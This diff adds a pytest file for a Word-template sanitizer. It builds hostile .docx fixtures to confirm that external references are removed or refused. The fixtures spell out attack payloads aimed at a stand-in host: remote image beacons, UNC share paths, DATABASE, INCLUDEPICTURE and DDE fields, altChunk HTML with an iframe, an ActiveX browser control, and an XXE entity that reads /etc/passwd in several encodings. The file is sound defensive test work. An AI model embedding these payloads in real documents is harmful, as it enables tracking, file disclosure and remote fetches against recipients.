@@ -1,0 +1,496 @@
+"""Hostile templates (they arrive by e-mail): nothing in an output may fetch a file or a URL.
+
+Each case is one a security review found getting through: an external hyperlink's relationship
+used as a picture's source, VML pictures naming their own address, fields that read a database
+or spell their type with a nested field, a header part under another name, altChunk content,
+ActiveX controls and OLE objects, and parts in UTF-16.
+"""
+
+from __future__ import annotations
+
+import re
+
+import pytest
+from docxtpl_support import UNIT_ROWS, paragraphs_template, parts_of, with_parts
+
+from docgen.errors import InputError, UnreadableDocumentError
+from docgen.ooxml.sanitize import sanitize_template
+from docgen.render.fastpath import prepare
+
+REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+EVIL = "evil.example"
+WP = 'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"'
+A = 'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"'
+PIC = 'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"'
+VML = 'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'
+HEADER_CT = "application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"
+
+
+def _template(
+    body: str = "",
+    rels: tuple[tuple[str, str, str, bool], ...] = (),
+    parts: dict[str, bytes] | None = None,
+    types: str = "",
+    settings: str = "",
+) -> bytes:
+    """A one-paragraph template ({{ 单位名称 }}) with ``body`` after it, more document
+    relationships (id, type, target, external), parts, content types and settings."""
+    base = paragraphs_template("{{ 单位名称 }}")
+    old = parts_of(base)
+    document = old["word/document.xml"].decode().replace("<w:sectPr", body + "<w:sectPr", 1)
+    added = "".join(
+        f'<Relationship Id="{rid}" Type="{REL}{kind}" Target="{target}"'
+        + (' TargetMode="External"' if external else "")
+        + "/>"
+        for rid, kind, target, external in rels
+    )
+    changes: dict[str, bytes | None] = {
+        "word/document.xml": document.encode(),
+        "word/_rels/document.xml.rels": old["word/_rels/document.xml.rels"].replace(
+            b"</Relationships>", f"{added}</Relationships>".encode()
+        ),
+        "[Content_Types].xml": old["[Content_Types].xml"].replace(
+            b"</Types>", f"{types}</Types>".encode()
+        ),
+        "word/settings.xml": re.sub(
+            rb"(<w:settings[^>]*>)",
+            lambda m: m.group(1) + settings.encode(),
+            old["word/settings.xml"],
+        ),
+    }
+    changes.update(parts or {})
+    return with_parts(base, changes)
+
+
+def _picture(attribute: str, rid: str) -> str:
+    return (
+        f'<w:p><w:r><w:drawing><wp:inline {WP}><wp:extent cx="100" cy="100"/>'
+        f'<wp:docPr id="9" name="p"/><a:graphic {A}><a:graphicData uri="http://schemas.'
+        f'openxmlformats.org/drawingml/2006/picture"><pic:pic {PIC}><pic:nvPicPr><pic:cNvPr id="0" '
+        f'name="x"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:{attribute}="{rid}"/>'
+        "</pic:blipFill><pic:spPr/></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing>"
+        "</w:r></w:p>"
+    )
+
+
+def _field(code: str, shown: str = "旧结果") -> str:
+    """A complex field as Word writes it, its code split over two runs."""
+    half = len(code) // 2
+    return (
+        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+        f'<w:r><w:instrText xml:space="preserve">{code[:half]}</w:instrText></w:r>'
+        f'<w:r><w:instrText xml:space="preserve">{code[half:]}</w:instrText></w:r>'
+        '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
+        f"<w:r><w:t>{shown}</w:t></w:r>"
+        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
+    )
+
+
+def _no_evil(parts: dict[str, bytes]) -> None:
+    for name, blob in parts.items():
+        assert EVIL.encode() not in blob, name
+
+
+# 1. An external hyperlink's relationship is a hyperlink, never a picture's source.
+
+
+@pytest.mark.parametrize("attribute", ["link", "embed"])
+def test_a_hyperlinks_relationship_used_as_a_picture_is_cut_off(attribute: str) -> None:
+    template = _template(
+        _picture(attribute, "rIdH"),
+        rels=(("rIdH", "hyperlink", f"file:///{EVIL}/secret.png", True),),
+    )
+    clean = sanitize_template(template, "图.docx")
+    assert f'r:{attribute}="rIdH"'.encode() not in clean.parts["word/document.xml"]
+    assert b"<a:blip" in clean.parts["word/document.xml"]  # the picture stays, without source
+    _no_evil(clean.parts)  # the relationship, used only so, goes too
+    assert any("超链接" in n and "外部图片" in n and EVIL in n for n in clean.notes)
+
+
+def test_a_hyperlink_stays_when_its_relationship_is_also_misused() -> None:
+    body = (
+        '<w:p><w:hyperlink r:id="rIdWeb"><w:r><w:t>网站</w:t></w:r></w:hyperlink></w:p>'
+        + _picture("link", "rIdWeb")
+        + f'<w:p><w:r><w:drawing><wp:inline {WP}><wp:extent cx="1" cy="1"/><wp:docPr id="3" '
+        f'name="q"><a:hlinkClick {A} r:id="rIdWeb"/></wp:docPr></wp:inline></w:drawing></w:r></w:p>'
+    )
+    template = _template(body, rels=(("rIdWeb", "hyperlink", f"https://www.{EVIL}/", True),))
+    clean = sanitize_template(template, "链接.docx")
+    document = clean.parts["word/document.xml"]
+    assert b'<w:hyperlink r:id="rIdWeb">' in document
+    assert b'r:id="rIdWeb"/></wp:docPr>' in document  # a:hlinkClick is a hyperlink too
+    assert b'r:link="rIdWeb"' not in document
+    assert f"https://www.{EVIL}/".encode() in clean.parts["word/_rels/document.xml.rels"]
+
+
+def test_vml_pictures_lose_their_own_addresses_and_misused_hyperlinks() -> None:
+    body = (
+        f'<w:p><w:r><w:pict><v:shape {VML} style="width:10pt;height:10pt">'
+        f'<v:imagedata src="http://{EVIL}/vml.png" o:href="\\\\{EVIL}\\share\\href.png"/>'
+        "</v:shape></w:pict></w:r></w:p>"
+        f'<w:p><w:r><w:pict><v:shape {VML} style="width:10pt;height:10pt">'
+        '<v:imagedata r:id="rIdH" o:title=""/></v:shape></w:pict></w:r></w:p>'
+    )
+    template = _template(body, rels=(("rIdH", "hyperlink", f"http://{EVIL}/h.png", True),))
+    clean = sanitize_template(template, "VML.docx")
+    _no_evil(clean.parts)
+    assert clean.parts["word/document.xml"].count(b"<v:imagedata") == 2
+    assert sum(EVIL in note for note in clean.notes) == 3
+
+
+# 2. Fields: every fetching kind, updateFields, nested field types, parts of any name.
+
+FETCHING = ["DATABASE", "INCLUDEPICTURE", "includetext", "INCLUDE", "LINK", "DDE", "DDEAUTO"]
+FETCHING += ["IMPORT", "RD"]
+
+
+@pytest.mark.parametrize("kind", FETCHING)
+def test_every_fetching_field_is_defused_complex_or_simple(kind: str) -> None:
+    code = f' {kind} \\d "\\\\\\\\{EVIL}\\\\share\\\\db.mdb" \\s "select * from t" '
+    simple = f'<w:p><w:fldSimple w:instr="{code.replace(chr(34), "&quot;")}"><w:r><w:t>简</w:t>'
+    template = _template(f"<w:p>{_field(code)}</w:p>{simple}</w:r></w:fldSimple></w:p>")
+    clean = sanitize_template(template, "域.docx")
+    document = clean.parts["word/document.xml"]
+    _no_evil(clean.parts)
+    assert kind.encode() not in document and b"fldSimple" not in document
+    assert "旧结果".encode() in document and "简".encode() in document  # results stay
+    assert sum("已停用取外部内容的域" in note for note in clean.notes) == 2
+
+
+def test_a_hyperlink_field_stays() -> None:
+    code = f' HYPERLINK "https://www.{EVIL}/" '
+    clean = sanitize_template(_template(f"<w:p>{_field(code, '网站')}</w:p>"), "域.docx")
+    assert b"HYPER" in clean.parts["word/document.xml"] and not clean.notes
+
+
+def test_word_is_not_asked_to_update_fields_on_opening() -> None:
+    template = _template(settings='<w:updateFields w:val="true"/>')
+    clean = sanitize_template(template, "更新.docx")
+    assert b"updateFields" not in clean.parts["word/settings.xml"]
+    assert any("更新域" in note for note in clean.notes)
+
+
+NESTED_QUOTE = (
+    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{start}'
+    '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+    '<w:r><w:instrText xml:space="preserve"> QUOTE "{spelled}" </w:instrText></w:r>'
+    '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>{spelled}</w:t></w:r>'
+    '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
+    f'<w:r><w:instrText xml:space="preserve">{{rest}} "http://{EVIL}/n.png" \\d </w:instrText></w:r>'
+    '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>图</w:t></w:r>'
+    '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
+)
+
+
+@pytest.mark.parametrize(
+    ("start", "spelled", "rest"),
+    [
+        ("", "INCLUDEPICTURE", ""),
+        ('<w:r><w:instrText xml:space="preserve"> INCLUDE</w:instrText></w:r>', "PICTURE", ""),
+        ("", "INCLUDE", "PICTURE"),
+    ],
+)
+def test_a_field_whose_type_a_nested_field_spells_is_refused_with_its_paragraph(
+    start: str, spelled: str, rest: str
+) -> None:
+    body = NESTED_QUOTE.format(start=start, spelled=spelled, rest=rest)
+    with pytest.raises(InputError, match="嵌套的 QUOTE 域拼出") as caught:
+        sanitize_template(_template(body), "嵌套.docx")
+    assert caught.value.location is not None and caught.value.location.paragraph == 2
+
+
+def test_a_nested_field_after_the_fields_type_is_read_as_before() -> None:
+    # IF over a merge field: the type is written out, the nested field is its operand.
+    code_start = '<w:r><w:instrText xml:space="preserve"> IF </w:instrText></w:r>'
+    body = (
+        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+        + code_start
+        + _field(" MERGEFIELD 性别 ")
+        + '<w:r><w:instrText xml:space="preserve"> = "男" "先生" "女士" </w:instrText></w:r>'
+        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>先生</w:t></w:r>'
+        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
+    )
+    clean = sanitize_template(_template(body), "称呼.docx")
+    assert "性别" in clean.merge_fields
+    assert "word_compare" in clean.parts["word/document.xml"].decode()
+
+
+def _with_top_header(inner: str) -> bytes:
+    """The template with a header part named word/top.xml (not header1.xml) holding ``inner``."""
+    header = (
+        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:hdr xmlns:w="http://schemas.'
+        'openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/'
+        f'officeDocument/2006/relationships">{inner}</w:hdr>'
+    )
+    template = _template(
+        rels=(("rIdTop", "header", "top.xml", False),),
+        parts={"word/top.xml": header.encode()},
+        types=f'<Override PartName="/word/top.xml" ContentType="{HEADER_CT}"/>',
+    )
+    document = re.sub(
+        rb"(<w:sectPr[^>]*>)",
+        lambda m: m.group(1) + b'<w:headerReference w:type="default" r:id="rIdTop"/>',
+        parts_of(template)["word/document.xml"],
+    )
+    return with_parts(template, {"word/document.xml": document})
+
+
+def test_fields_in_a_header_of_any_name_are_defused_and_merge_fields_read() -> None:
+    inner = (
+        f'<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://{EVIL}/h.png&quot; \\d ">'
+        "<w:r><w:t>h</w:t></w:r></w:fldSimple></w:p>"
+        '<w:p><w:fldSimple w:instr=" MERGEFIELD 联系人 "><w:r><w:t>«联系人»</w:t></w:r>'
+        "</w:fldSimple></w:p>"
+    )
+    template = _with_top_header(inner)
+    clean = sanitize_template(template, "页眉.docx")
+    assert "联系人" in clean.merge_fields
+    assert any("word/top.xml" in note for note in clean.notes)
+    output = parts_of(prepare(template, "页眉.docx").render(UNIT_ROWS[0]))
+    _no_evil(output)
+    assert "王芳".encode() in output["word/top.xml"]
+
+
+def test_tracked_changes_in_a_header_of_any_name_are_refused() -> None:
+    inner = '<w:p><w:ins w:id="1" w:author="张三"><w:r><w:t>改</w:t></w:r></w:ins></w:p>'
+    with pytest.raises(InputError, match="张三"):
+        sanitize_template(_with_top_header(inner), "修订.docx")
+
+
+# 3. altChunk, ActiveX, OLE objects.
+
+
+def test_alt_chunk_content_is_refused_naming_the_paragraph() -> None:
+    html = f'<html><body><img src="http://{EVIL}/a.png"><iframe src="http://{EVIL}/f"></iframe>'
+    template = _template(
+        '<w:p><w:r><w:t>附件如下</w:t></w:r></w:p><w:altChunk r:id="rIdAlt"/>',
+        rels=(("rIdAlt", "aFChunk", "chunk1.html", False),),
+        parts={"word/chunk1.html": html.encode()},
+        types='<Override PartName="/word/chunk1.html" ContentType="text/html"/>',
+    )
+    with pytest.raises(InputError, match="altChunk") as caught:
+        sanitize_template(template, "块.docx")
+    place = caught.value.location
+    assert place is not None and place.paragraph == 2 and place.excerpt == "附件如下"
+    assert "这一段之后" in caught.value.message
+
+
+def test_an_unused_alt_chunk_part_is_dropped() -> None:
+    template = _template(
+        rels=(("rIdAlt", "aFChunk", "chunk1.html", False),),
+        parts={"word/chunk1.html": f'<img src="http://{EVIL}/a.png">'.encode()},
+        types='<Override PartName="/word/chunk1.html" ContentType="text/html"/>',
+    )
+    clean = sanitize_template(template, "块.docx")
+    _no_evil(clean.parts)
+    assert b"chunk1" not in clean.parts["[Content_Types].xml"]
+
+
+def test_activex_controls_are_refused_like_macros() -> None:
+    control = (
+        '<?xml version="1.0" encoding="UTF-8"?><ax:ocx xmlns:ax="http://schemas.microsoft.com/'
+        'office/2006/activeX" ax:classid="{8856F961-340A-11D0-A96B-00C04FD705A2}"/>'
+    )
+    template = _template(
+        '<w:p><w:r><w:object><w:control r:id="rIdAx" w:name="WebBrowser1"/></w:object></w:r></w:p>',
+        rels=(("rIdAx", "control", "activeX/activeX1.xml", False),),
+        parts={"word/activeX/activeX1.xml": control.encode()},
+        types='<Override PartName="/word/activeX/activeX1.xml" '
+        'ContentType="application/vnd.ms-office.activeX+xml"/>',
+    )
+    with pytest.raises(UnreadableDocumentError, match="ActiveX 控件（WebBrowser1）") as caught:
+        sanitize_template(template, "控件.docx")
+    assert caught.value.location is not None and caught.value.location.paragraph == 2
+
+
+OLE = (
+    '<w:p><w:r><w:object w:dxaOrig="10" w:dyaOrig="10">{picture}<o:OLEObject {vml} Type="Embed" '
+    'ProgID="{prog}" ShapeID="_x0000_i1" DrawAspect="Icon" ObjectID="_1" r:id="rIdOle"/>'
+    "</w:object></w:r></w:p>"
+)
+PREVIEW = f'<v:shape {VML} id="_x0000_i1" style="width:9pt;height:9pt"><v:imagedata r:id="rIdPrev"/></v:shape>'
+
+
+def _ole(picture: str, kind: str, target: str, prog: str = "Package") -> bytes:
+    return _template(
+        OLE.format(picture=picture, vml=VML, prog=prog),
+        rels=(
+            ("rIdOle", kind, target, False),
+            ("rIdPrev", "image", "media/prev.png", False),
+        ),
+        parts={
+            f"word/{target}": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 64,
+            "word/media/prev.png": b"\x89PNG\r\n\x1a\n",
+        },
+        types='<Default Extension="bin" ContentType="application/vnd.openxmlformats-'
+        'officedocument.oleObject"/><Default Extension="png" ContentType="image/png"/>',
+    )
+
+
+def test_an_embedded_ole_object_keeps_only_its_picture() -> None:
+    clean = sanitize_template(_ole(PREVIEW, "oleObject", "embeddings/oleObject1.bin"), "对象.docx")
+    document = clean.parts["word/document.xml"]
+    assert b"OLEObject" not in document
+    assert b'<v:imagedata r:id="rIdPrev"/>' in document
+    assert "word/embeddings/oleObject1.bin" not in clean.parts
+    assert b"rIdOle" not in clean.parts["word/_rels/document.xml.rels"]
+    assert any("嵌入对象" in note for note in clean.notes)
+    prepare(clean.data, "对象.docx").render(UNIT_ROWS[0])  # still a document docxtpl fills
+
+
+def test_an_ole_object_without_a_picture_goes_whole() -> None:
+    clean = sanitize_template(_ole("", "oleObject", "embeddings/oleObject1.bin"), "对象.docx")
+    assert b"w:object" not in clean.parts["word/document.xml"]
+
+
+def test_an_embedded_office_file_stays_and_a_disguised_one_goes() -> None:
+    docx = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
+    kept = _ole(PREVIEW, "package", "embeddings/Doc1.docx", "Word.Document.12")
+    kept = with_parts(
+        kept,
+        {
+            "[Content_Types].xml": parts_of(kept)["[Content_Types].xml"].replace(
+                b"</Types>", f'<Default Extension="docx" ContentType="{docx}"/></Types>'.encode()
+            )
+        },
+    )
+    clean = sanitize_template(kept, "对象.docx")
+    assert "word/embeddings/Doc1.docx" in clean.parts and not clean.notes
+    disguised = sanitize_template(_ole(PREVIEW, "package", "embeddings/x.bin"), "对象.docx")
+    assert "word/embeddings/x.bin" not in disguised.parts
+
+
+# 4. Encodings: a DTD is refused in any of them; parts not in UTF-8 are read and rewritten.
+
+XXE = '<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
+
+
+def _declared(blob: bytes, encoding: str) -> str:
+    """A part's text with its declaration naming ``encoding``."""
+    return re.sub("encoding=['\"][^'\"]*['\"]", f'encoding="{encoding}"', blob.decode(), count=1)
+
+
+def _document_in(encoding: str, bom: bytes = b"", doctype: str = "", name: str = "") -> bytes:
+    """The template with its main part in ``encoding``, a DTD in it (``doctype``), and under
+    another ``name`` than word/document.xml."""
+    template = paragraphs_template("{{ 单位名称 }}", "ZZZ")
+    parts = parts_of(template)
+    text = _declared(parts["word/document.xml"], encoding)
+    text = text.replace("?>", "?>" + doctype, 1).replace("ZZZ", "&xxe;" if doctype else "ZZZ")
+    if encoding == "utf-7":  # the declaration in ASCII, "<!" written as UTF-7 writes it
+        declaration, rest = text.split("?>", 1)
+        body = rest.encode("utf-7").replace(b"<!", b"+ADwAIQ-")
+        blob = declaration.encode() + b"?>" + body
+    else:
+        blob = bom + text.encode(encoding, "xmlcharrefreplace")
+    if not name:
+        return with_parts(template, {"word/document.xml": blob})
+    main = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
+    types = parts["[Content_Types].xml"].replace(
+        b"</Types>", f'<Override PartName="/{name}" ContentType="{main}"/></Types>'.encode()
+    )
+    return with_parts(
+        template,
+        {
+            name: blob,
+            "word/_rels/main.dat.rels": parts["word/_rels/document.xml.rels"],
+            "_rels/.rels": parts["_rels/.rels"].replace(b"word/document.xml", name.encode()),
+            "[Content_Types].xml": types,
+            "word/document.xml": b'<?xml version="1.0"?><x/>',
+        },
+    )
+
+
+@pytest.mark.parametrize(
+    ("encoding", "bom"),
+    [
+        ("utf-16", b""),  # Python writes the byte-order mark
+        ("utf-16-le", b""),
+        ("utf-16-be", b"\xfe\xff"),
+        ("utf-32", b""),
+        ("utf-8", b"\xef\xbb\xbf"),
+        ("utf-7", b""),
+        ("cp037", b""),
+    ],
+)
+def test_a_dtd_is_refused_in_any_encoding(encoding: str, bom: bytes) -> None:
+    template = _document_in(encoding, bom, XXE)
+    with pytest.raises(UnreadableDocumentError, match="DTD/实体声明"):
+        sanitize_template(template, "xxe.docx")
+
+
+def test_a_dtd_is_refused_in_a_part_of_any_name() -> None:
+    with pytest.raises(UnreadableDocumentError, match=r"word/main\.dat 含有 DTD"):
+        sanitize_template(_document_in("utf-8", doctype=XXE, name="word/main.dat"), "xxe.docx")
+
+
+def test_a_part_in_utf16_is_cleaned_and_rewritten_in_utf8() -> None:
+    code = f' INCLUDEPICTURE "http://{EVIL}/p.png" '
+    template = _template(
+        f"<w:p>{_field(code)}</w:p>" + _picture("link", "rIdI"),
+        rels=(("rIdI", "image", f"http://{EVIL}/i.png", True),),
+    )
+    parts = parts_of(template)
+    names = ("word/document.xml", "word/_rels/document.xml.rels", "[Content_Types].xml")
+    template = with_parts(
+        template, {name: _declared(parts[name], "UTF-16").encode("utf-16") for name in names}
+    )
+    clean = sanitize_template(template, "十六.docx")
+    _no_evil(clean.parts)
+    assert clean.parts["word/document.xml"].startswith(b"<?xml version='1.0' encoding='UTF-8'")
+    output = parts_of(prepare(template, "十六.docx").render(UNIT_ROWS[0]))
+    assert "市教育局".encode() in output["word/document.xml"]
+
+
+def test_a_part_in_an_unknown_encoding_is_refused() -> None:
+    template = _document_in("utf-8")
+    blob = parts_of(template)["word/document.xml"].replace(
+        b'encoding="utf-8"', b'encoding="x-evil"'
+    )
+    with pytest.raises(UnreadableDocumentError, match="编码无法识别"):
+        sanitize_template(with_parts(template, {"word/document.xml": blob}), "编码.docx")
+
+
+# Everything at once, through the renderer: no output part names the attacker's host.
+
+
+def test_a_template_with_every_removable_reference_renders_without_any() -> None:
+    top = (
+        f'<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://{EVIL}/h.png&quot; \\d ">'
+        "<w:r><w:t>h</w:t></w:r></w:fldSimple></w:p><w:p><w:r><w:t>{{ 单位名称 }}</w:t></w:r></w:p>"
+    )
+    template = _with_top_header(top)
+    parts = parts_of(template)
+    database = f' DATABASE \\d "\\\\\\\\{EVIL}\\\\db.mdb" '
+    body = (
+        _picture("link", "rIdImg")
+        + _picture("embed", "rIdH")
+        + f"<w:p>{_field(database)}</w:p>"
+        + f'<w:p><w:r><w:pict><v:shape {VML}><v:imagedata src="http://{EVIL}/v.png"/></v:shape>'
+        "</w:pict></w:r></w:p>" + '<w:subDoc r:id="rIdSub"/>'
+    )
+    parts["word/document.xml"] = parts["word/document.xml"].replace(
+        b"<w:sectPr", body.encode() + b"<w:sectPr", 1
+    )
+    extra = "".join(
+        f'<Relationship Id="{rid}" Type="{REL}{kind}" Target="{target}" TargetMode="External"/>'
+        for rid, kind, target in [
+            ("rIdImg", "image", f"http://{EVIL}/beacon.png"),
+            ("rIdH", "hyperlink", f"http://{EVIL}/hl.png"),
+            ("rIdSub", "subDocument", f"file:///\\\\{EVIL}\\share\\sub.docx"),
+        ]
+    )
+    parts["word/_rels/document.xml.rels"] = parts["word/_rels/document.xml.rels"].replace(
+        b"</Relationships>", extra.encode() + b"</Relationships>"
+    )
+    parts["word/settings.xml"] = re.sub(
+        rb"(<w:settings[^>]*>)",
+        lambda m: m.group(1) + b'<w:updateFields w:val="true"/>',
+        parts["word/settings.xml"],
+    )
+    prepared = prepare(with_parts(template, dict(parts)), "全部.docx")
+    output = parts_of(prepared.render(UNIT_ROWS[0]))
+    _no_evil(output)
+    assert b"updateFields" not in output["word/settings.xml"]
+    assert "市教育局".encode() in output["word/top.xml"]
+    assert len(prepared.notes) >= 6
